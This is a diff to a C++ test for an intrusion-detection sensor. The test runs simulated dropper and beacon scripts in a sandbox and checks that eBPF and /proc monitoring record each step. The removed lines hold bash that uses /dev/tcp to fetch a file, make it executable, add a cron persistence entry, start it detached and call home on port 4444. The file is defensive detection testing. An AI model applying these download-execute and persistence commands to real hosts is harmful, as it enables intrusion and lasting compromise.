@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 // What an intruder does, done to a host of the test's own by harmless scripts, must be in the record: by both ways.
+#include "tests/sensor/dropper.h"
 #include "tests/sensor/recorder.h"
 
 #include <algorithm>
@@ -18,16 +19,6 @@ namespace {
 
 constexpr uint16_t kWebPort = 8080, kBeaconPort = 4444;
 
-/// Fetched: calls home and stays connected.
-constexpr const char* kBeacon = "#!/usr/bin/env bash\n# METSUKE-SIM\n[ -n \"$METSUKE_SIM_ROOT\" ] || exit 1\n"
-                                "exec 3<>/dev/tcp/10.78.0.2/4444\nread -r -t 40 line <&3\n";
-/// Fetches it, renames it, makes it executable, has cron start it, and starts it apart from its own session.
-constexpr const char* kDropper = "#!/bin/bash\n# METSUKE-SIM\n[ -n \"$METSUKE_SIM_ROOT\" ] || exit 1\ncd \"$METSUKE_SIM_ROOT\" || exit 1\n"
-                                 "exec 3<>/dev/tcp/10.78.0.2/8080\nprintf 'GET /update HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3 > home/.u.part\nexec 3>&-\n"
-                                 "mv home/.u.part home/.update\nchmod +x home/.update\n"
-                                 "printf '* * * * * root %s/home/.update\\n' \"$METSUKE_SIM_ROOT\" >> etc/cron.d/upd\n"
-                                 "setsid \"$METSUKE_SIM_ROOT/home/.update\" >/dev/null 2>&1 </dev/null &\nexit 0\n";
-
 class Scenario : public BothWays {};
 INSTANTIATE_TEST_SUITE_P(Ways, Scenario, ::testing::Values(sensor::SensorChoice::Ebpf, sensor::SensorChoice::Proc), nameOfWay);
 
@@ -42,9 +33,9 @@ TEST_P(Scenario, DropperToBeacon_isRecordedCompletely) {
     const Victim victim;
     victim.write("home/keep", "");
     victim.write("etc/cron.d/keep", "# nothing\n");
-    victim.write("dropper.sh", kDropper);
+    victim.write("dropper.sh", kDropperScript);
     // Slow, so that a look once a second sees the download.
-    const OtherEnd web(victim, kWebPort, kBeacon, isEbpf() ? 0 : 2500, false);
+    const OtherEnd web(victim, kWebPort, std::string("HTTP/1.0 200 OK\r\n\r\n") + kBeaconScript, isEbpf() ? 0 : 2500, false);
     const OtherEnd home(victim, kBeaconPort, "", 0, true);
     const Recorder record(GetParam(), victim);
     ASSERT_EQ(victim.run({"/bin/bash", (victim.root() / "dropper.sh").string()}), 0);
@@ -52,7 +43,7 @@ TEST_P(Scenario, DropperToBeacon_isRecordedCompletely) {
 
     const std::string part = victim.root() / "home/.u.part", update = victim.root() / "home/.update", cron = victim.root() / "etc/cron.d/upd";
     const auto isBeacon = [](const Activity&, const Connected& c) { return c.remotePort == kBeaconPort && c.remote.toString() == Victim::kOtherAddress; };
-    const auto isDownload = [](const Activity&, const Connected& c) { return c.remotePort == kWebPort; };
+    const auto isDownload = [](const Activity&, const Connected& c) { return c.remotePort == kWebPort && c.remote.toString() == Victim::kOtherAddress; };
     ASSERT_TRUE(record.sees<Connected>(isBeacon));
     ASSERT_TRUE(record.sees<Connected>(isDownload));
     ASSERT_TRUE(record.sees<PersistenceChanged>([&](const Activity&, const PersistenceChanged& p) { return p.path == cron; }));
